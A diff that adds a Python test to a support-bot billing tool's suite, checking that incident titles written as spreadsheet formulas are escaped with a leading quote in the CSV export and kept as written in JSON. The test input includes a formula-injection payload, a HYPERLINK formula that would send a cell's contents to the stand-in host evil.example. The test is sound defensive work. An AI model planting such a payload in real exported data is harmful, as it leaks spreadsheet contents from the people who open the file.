@@ -207,3 +207,24 @@ def test_the_report_needs_no_redis_and_post_says_why_it_cannot(desk: Desk, tmp_p
     assert posted.returncode == 1 and "Traceback" not in posted.stderr
     assert posted.stderr.strip().endswith("supportbot run starts an embedded Redis)")
     assert "--post cannot reach Slack: REDIS_URL is not set" in posted.stderr
+
+
+def test_a_title_written_as_a_formula_is_text_in_the_csv(
+    desk: Desk, usage: Callable[..., tuple[int, str, str]]
+) -> None:
+    """A customer's contact writes the title; the billing person opens the CSV in a
+    spreadsheet, which ran `=HYPERLINK(…)` (or `+`, `-`, `@` …) as a formula on their
+    machine. The cell now starts with a quote, as spreadsheets read text; JSON keeps the
+    title as written."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
+    desk.slack.command(f"sev3 {formula}", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
+    desk.slack.command("sev3 @SUM(1+1)", channel=GLOBEX_CHANNEL, user=GLOBEX_HANS)
+    tasks.waive(desk.rt, 2, STAFF_ACTOR, "product defect")
+    _, csv, _ = usage("--month", "2026-12", "--customer", "globex", "--format", "csv")
+    rows = list(DictReader(line for line in csv.splitlines() if not line.startswith("#")))
+    lines = {row["incident"]: row for row in rows if row["section"] == "line"}
+    assert lines["INC-1"]["title"] == f"'{formula}"
+    assert lines["INC-2"]["title"] == "'@SUM(1+1)"
+    assert lines["INC-2"]["amount"] == "0.00"  # a number is left as it is
+    _, data, _ = usage("--month", "2026-12", "--customer", "globex", "--format", "json")
+    assert json.loads(data)["lines"][0]["title"] == formula
